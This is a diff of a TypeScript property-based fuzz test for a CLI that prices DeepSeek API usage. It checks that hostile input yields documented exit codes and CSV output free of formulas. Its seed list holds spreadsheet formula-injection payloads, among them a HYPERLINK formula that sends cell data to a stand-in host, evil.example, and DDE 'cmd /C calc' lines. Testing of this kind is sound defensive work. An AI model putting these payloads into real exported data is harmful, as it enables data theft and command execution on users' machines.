@@ -3,7 +3,7 @@ import { join } from 'node:path';
 import { Readable } from 'node:stream';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { compileTariff, Decimal, diffTariffs, getBundledTariff, priceRequest, type Quote, type TariffDocument } from '@seekcost/pricing';
+import { compileTariff, Decimal, diffTariffs, getBundledTariff, priceRequest, type Quote, type Tariff, type TariffDocument } from '@seekcost/pricing';
 import { runDiff } from '../src/commands/diff.ts';
 import { runPrice, type PriceCommandOptions } from '../src/commands/price.ts';
 import { runTariff } from '../src/commands/tariff.ts';
@@ -30,8 +30,8 @@ const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;
 const SEEDS = [
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
   "+cmd|' /C calc'!A0",
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '  =1+1',
@@ -49,7 +49,31 @@ const SEEDS = [
   '-1.5',
 ];
 
-const hostileChar = fc.constantFrom('\u001b', '\u009b', '\u202e', '\u2066', '\r', '\n', '\t', '\u0000', '\u007f', '\u2028', '=', '+', '-', '@', '"', ',', "'", '\\', ' ', 'a', '1', '.', '中');
+const hostileChar = fc.constantFrom(
+  '\u001b',
+  '\u009b',
+  '\u202e',
+  '\u2066',
+  '\r',
+  '\n',
+  '\t',
+  '\u0000',
+  '\u007f',
+  '\u2028',
+  '=',
+  '+',
+  '-',
+  '@',
+  '"',
+  ',',
+  "'",
+  '\\',
+  ' ',
+  'a',
+  '1',
+  '.',
+  '中',
+);
 const hostileString = fc.oneof(
   { weight: 1, arbitrary: fc.constantFrom(...SEEDS) },
   { weight: 3, arbitrary: fc.string({ unit: hostileChar, maxLength: 12 }) },
@@ -134,19 +158,33 @@ const PRICED = [
 
 /** A record that prices, with its expected quote computed straight from priceRequest. */
 const goodRecord = fc
-  .record({ which: fc.integer({ min: 0, max: PRICED.length - 1 }), t: fc.double({ min: 0, max: 1, noNaN: true }), input: fc.integer({ min: 0, max: 5_000_000 }), output: fc.integer({ min: 0, max: 500_000 }), key: hostileString })
+  .record({
+    which: fc.integer({ min: 0, max: PRICED.length - 1 }),
+    t: fc.double({ min: 0, max: 1, noNaN: true }),
+    input: fc.integer({ min: 0, max: 5_000_000 }),
+    output: fc.integer({ min: 0, max: 500_000 }),
+    key: hostileString,
+  })
   .map(({ which, t, input, output, key }) => {
     const p = PRICED[which] as (typeof PRICED)[number];
     const at = new Date(Math.floor(p.from + t * (p.to - p.from))).toISOString();
-    return { line: JSON.stringify({ model: p.model, at, usage: { prompt_tokens: input, completion_tokens: output }, key }), quote: priceRequest({ model: p.model, at, usage: { inputTokens: input, outputTokens: output } }) as Quote | undefined };
+    return {
+      line: JSON.stringify({ model: p.model, at, usage: { prompt_tokens: input, completion_tokens: output }, key }),
+      quote: priceRequest({ model: p.model, at, usage: { inputTokens: input, outputTokens: output } }) as Quote | undefined,
+    };
   });
 /** A line that must be excluded: not JSON, not an object, an unknown model, bad counts or instant. */
 const badRecord = fc
   .oneof(
     hostileString.map((s) => `{${s}`),
-    fc.jsonValue().filter((v) => typeof v !== 'object' || v === null || Array.isArray(v)).map((v) => JSON.stringify(v)),
+    fc
+      .jsonValue()
+      .filter((v) => typeof v !== 'object' || v === null || Array.isArray(v))
+      .map((v) => JSON.stringify(v)),
     hostileString.map((s) => JSON.stringify({ model: `x${s}`, at: '2026-01-01T00:00:00Z', usage: { prompt_tokens: 1, completion_tokens: 1 } })),
-    fc.integer({ min: -1000, max: -1 }).map((n) => JSON.stringify({ model: 'deepseek-chat', at: '2025-03-01T00:00:00Z', usage: { prompt_tokens: n, completion_tokens: 1 } })),
+    fc
+      .integer({ min: -1000, max: -1 })
+      .map((n) => JSON.stringify({ model: 'deepseek-chat', at: '2025-03-01T00:00:00Z', usage: { prompt_tokens: n, completion_tokens: 1 } })),
     hostileString.map((s) => JSON.stringify({ model: 'deepseek-chat', at: `2025-03-01${s}x`, usage: { prompt_tokens: 1, completion_tokens: 1 } })),
   )
   .map((line) => ({ line: line.replace(/\n/g, ' '), quote: undefined as Quote | undefined }));
@@ -157,18 +195,35 @@ const RECORD_RUNS = 400;
 describe('CLI fuzz: hostile input gets a documented exit code and safe output', { timeout: 600_000 }, () => {
   it(`price: ${RUNS} hostile argument sets`, async () => {
     const arg = fc.oneof(hostileString, fc.integer({ min: -5, max: 10_000_000 }).map(String), fc.constantFrom('40%', '100%', '100.5%', '1e3', '0x10', ''));
-    const options = fc.record({ model: fc.oneof(fc.constantFrom('deepseek-chat', 'deepseek-v4-pro', 'deepseek-flash'), hostileString), input: arg, cacheHit: arg, output: arg, at: fc.oneof(fc.constant(undefined), hostileString, fc.constantFrom('2025-03-01T12:00:00Z', '2026-10-01T02:00:00Z', '2025-02-30T12:00:00Z')), currency: fc.constantFrom('USD' as const, 'CNY' as const), json: fc.boolean() });
+    const options = fc.record({
+      model: fc.oneof(fc.constantFrom('deepseek-chat', 'deepseek-v4-pro', 'deepseek-flash'), hostileString),
+      input: arg,
+      cacheHit: arg,
+      output: arg,
+      at: fc.oneof(fc.constant(undefined), hostileString, fc.constantFrom('2025-03-01T12:00:00Z', '2026-10-01T02:00:00Z', '2025-02-30T12:00:00Z')),
+      currency: fc.constantFrom('USD' as const, 'CNY' as const),
+      json: fc.boolean(),
+    });
     await fc.assert(
       fc.asyncProperty(options, async (o) => {
         const result = await direct((io) => runPrice(o, io));
         expectSafe(result, `price ${JSON.stringify(o)}`);
         if (result.code === 0 && o.json) {
           const input = Number(o.input);
-          const quote = priceRequest({ model: o.model, usage: { inputTokens: input, cacheHitInputTokens: JSON.parse(result.stdout).tokens.cacheHitInputTokens, outputTokens: Number(o.output) }, at: o.at ?? '2026-09-01T02:00:00Z', currency: o.currency });
+          const quote = priceRequest({
+            model: o.model,
+            usage: { inputTokens: input, cacheHitInputTokens: JSON.parse(result.stdout).tokens.cacheHitInputTokens, outputTokens: Number(o.output) },
+            at: o.at ?? '2026-09-01T02:00:00Z',
+            currency: o.currency,
+          });
           expect(JSON.parse(result.stdout).total).toBe(quote.total.toString());
         }
       }),
-      { seed: SEED, numRuns: RUNS, examples: SEEDS.map((s): [PriceCommandOptions] => [{ model: s, input: s, cacheHit: '0', output: '1', at: undefined, currency: 'USD', json: false }]) },
+      {
+        seed: SEED,
+        numRuns: RUNS,
+        examples: SEEDS.map((s): [PriceCommandOptions] => [{ model: s, input: s, cacheHit: '0', output: '1', at: undefined, currency: 'USD', json: false }]),
+      },
     );
   });
 
@@ -184,7 +239,9 @@ describe('CLI fuzz: hostile input gets a documented exit code and safe output', 
     const body = fc.oneof(
       hostileString,
       fc.jsonValue().map((v) => JSON.stringify(v)),
-      fc.array(fc.record({ role: fc.oneof(fc.constantFrom('system', 'user', 'assistant'), hostileString), content: hostileString }), { maxLength: 4 }).map((messages) => JSON.stringify({ model: 'deepseek-chat', messages })),
+      fc
+        .array(fc.record({ role: fc.oneof(fc.constantFrom('system', 'user', 'assistant'), hostileString), content: hostileString }), { maxLength: 4 })
+        .map((messages) => JSON.stringify({ model: 'deepseek-chat', messages })),
     );
     await fc.assert(
       fc.asyncProperty(body, fc.oneof(fc.constant(undefined), hostileString, fc.constant('2026-01-01T00:00:00Z')), async (text, at) => {
@@ -208,7 +265,11 @@ describe('CLI fuzz: hostile input gets a documented exit code and safe output', 
         expect(ledger.code).toBe(priced === lines.length ? 0 : 3);
         if (out === 'csv') {
           expectNoFormula(ledger.stdout, 'ledger --out csv');
-          const amounts = ledger.stdout.split('\n').slice(1).filter((l) => l !== '').map((l) => csvCells(l).at(-1) ?? '0');
+          const amounts = ledger.stdout
+            .split('\n')
+            .slice(1)
+            .filter((l) => l !== '')
+            .map((l) => csvCells(l).at(-1) ?? '0');
           expect(amounts.reduce((sum, a) => sum.plus(a), new Decimal(0)).toString()).toBe(expected.toString());
         }
         if (out === 'json') expect(JSON.parse(ledger.stdout).amount).toBe(expected.toString());
@@ -252,7 +313,21 @@ describe('CLI fuzz: hostile input gets a documented exit code and safe output', 
         doc.calendars['cn-public-holidays']!.dates[0]!.name = `-${holiday}x`;
         writeFileSync(join(dir, 'data.json'), JSON.stringify(doc));
         const { io, out } = captureIo();
-        const code = await runTariff({ model: undefined, from: undefined, to: undefined, currency: 'USD', format: 'csv', dialect: 'duckdb', usageTable: 'usage', prefix: 'seekcost_', segments: false, data: join(dir, 'data.json') }, io).catch((error: unknown) => reportCliError(error, io));
+        const code = await runTariff(
+          {
+            model: undefined,
+            from: undefined,
+            to: undefined,
+            currency: 'USD',
+            format: 'csv',
+            dialect: 'duckdb',
+            usageTable: 'usage',
+            prefix: 'seekcost_',
+            segments: false,
+            data: join(dir, 'data.json'),
+          },
+          io,
+        ).catch((error: unknown) => reportCliError(error, io));
         const result = { ...out(), code };
         expectSafe(result, `tariff --data with ${JSON.stringify([id, note, holiday, name])}`);
         expect(code).toBe(0);
@@ -266,7 +341,13 @@ describe('CLI fuzz: hostile input gets a documented exit code and safe output', 
     const dir = tempDir();
     mkdirSync(join(dir, 'f'), { recursive: true });
     writeFileSync(join(dir, 'f', 'old.json'), JSON.stringify(getBundledTariff().document));
-    const text = fc.oneof(hostileString, fc.jsonValue().map((v) => JSON.stringify(v)), fc.record({ formatVersion: fc.constantFrom(1, 2), provider: hostileString, ids: fc.dictionary(hostileString, fc.jsonValue()) }).map((v) => JSON.stringify(v)));
+    const text = fc.oneof(
+      hostileString,
+      fc.jsonValue().map((v) => JSON.stringify(v)),
+      fc
+        .record({ formatVersion: fc.constantFrom(1, 2), provider: hostileString, ids: fc.dictionary(hostileString, fc.jsonValue()) })
+        .map((v) => JSON.stringify(v)),
+    );
     let i = 0;
     const cwd = join(dir, 'f');
     await fc.assert(
@@ -285,14 +366,22 @@ describe('CLI fuzz: hostile input gets a documented exit code and safe output', 
   it('diffTariffs: a random mutation of the price data is reported whenever a quote changes', () => {
     const before = getBundledTariff();
     const mutation = fc.oneof(
-      fc.record({ kind: fc.constant('price' as const), currency: fc.constantFrom('USD' as const, 'CNY' as const), field: fc.constantFrom('cacheHit' as const, 'cacheMiss' as const, 'output' as const), cents: fc.integer({ min: 0, max: 999 }) }),
+      fc.record({
+        kind: fc.constant('price' as const),
+        currency: fc.constantFrom('USD' as const, 'CNY' as const),
+        field: fc.constantFrom('cacheHit' as const, 'cacheMiss' as const, 'output' as const),
+        cents: fc.integer({ min: 0, max: 999 }),
+      }),
       fc.record({ kind: fc.constant('window' as const), hour: fc.integer({ min: 0, max: 23 }) }),
       fc.record({ kind: fc.constant('zone' as const), zone: fc.constantFrom('UTC', 'Asia/Tokyo', 'America/Los_Angeles', 'Europe/Berlin', 'Asia/Shanghai') }),
       fc.record({ kind: fc.constant('holiday' as const), day: fc.integer({ min: 1, max: 28 }) }),
       fc.record({ kind: fc.constant('weekday' as const), day: fc.integer({ min: 1, max: 7 }) }),
       fc.record({ kind: fc.constant('limit' as const), tokens: fc.integer({ min: 1, max: 1_000_000 }) }),
     );
-    const probe = fc.record({ t: fc.integer({ min: Date.parse('2026-09-10T04:00Z'), max: Date.parse('2027-01-08T00:00Z') }), currency: fc.constantFrom('USD' as const, 'CNY' as const) });
+    const probe = fc.record({
+      t: fc.integer({ min: Date.parse('2026-09-10T04:00Z'), max: Date.parse('2027-01-08T00:00Z') }),
+      currency: fc.constantFrom('USD' as const, 'CNY' as const),
+    });
     fc.assert(
       fc.property(mutation, fc.array(probe, { minLength: 200, maxLength: 200 }), (m, probes) => {
         const doc = structuredClone(before.document) as TariffDocument;
@@ -301,10 +390,18 @@ describe('CLI fuzz: hostile input gets a documented exit code and safe output', 
         if (m.kind === 'price') peak.prices[m.currency]![m.field] = `0.${String(m.cents).padStart(3, '0')}`;
         if (m.kind === 'window') peak.when!.windows[0]!.start = `${String(m.hour).padStart(2, '0')}:00`;
         if (m.kind === 'zone') doc.calendars['cn-public-holidays']!.timeZone = m.zone;
-        if (m.kind === 'holiday') doc.calendars['cn-public-holidays']!.dates.push({ from: `2026-11-${String(m.day).padStart(2, '0')}`, to: `2026-11-${String(m.day).padStart(2, '0')}`, name: 'test' });
-        if (m.kind === 'weekday') peak.when!.weekdays!.days = peak.when!.weekdays!.days.includes(m.day) ? peak.when!.weekdays!.days.filter((d) => d !== m.day) : [...peak.when!.weekdays!.days, m.day];
+        if (m.kind === 'holiday')
+          doc.calendars['cn-public-holidays']!.dates.push({
+            from: `2026-11-${String(m.day).padStart(2, '0')}`,
+            to: `2026-11-${String(m.day).padStart(2, '0')}`,
+            name: 'test',
+          });
+        if (m.kind === 'weekday')
+          peak.when!.weekdays!.days = peak.when!.weekdays!.days.includes(m.day)
+            ? peak.when!.weekdays!.days.filter((d) => d !== m.day)
+            : [...peak.when!.weekdays!.days, m.day];
         if (m.kind === 'limit') period.limits.maxOutputTokens = m.tokens;
-        let after;
+        let after: Tariff;
         try {
           after = compileTariff(doc);
         } catch {
@@ -317,7 +414,8 @@ describe('CLI fuzz: hostile input gets a documented exit code and safe output', 
           const usage = { inputTokens: 1_000_000, outputTokens: 1_000_000 };
           const a = priceRequest({ model: 'deepseek-flash', usage, at: t, currency, tariff: before });
           const b = priceRequest({ model: 'deepseek-flash', usage, at: t, currency, tariff: after });
-          if (!a.total.equals(b.total) || a.provenance.tier !== b.provenance.tier) expect(quoted.has(`deepseek-flash ${currency}`), `${JSON.stringify(m)} changes the price at ${new Date(t).toISOString()}`).toBe(true);
+          if (!a.total.equals(b.total) || a.provenance.tier !== b.provenance.tier)
+            expect(quoted.has(`deepseek-flash ${currency}`), `${JSON.stringify(m)} changes the price at ${new Date(t).toISOString()}`).toBe(true);
         }
         if (JSON.stringify(doc) !== JSON.stringify(before.document)) expect(changes.length).toBeGreaterThan(0);
       }),
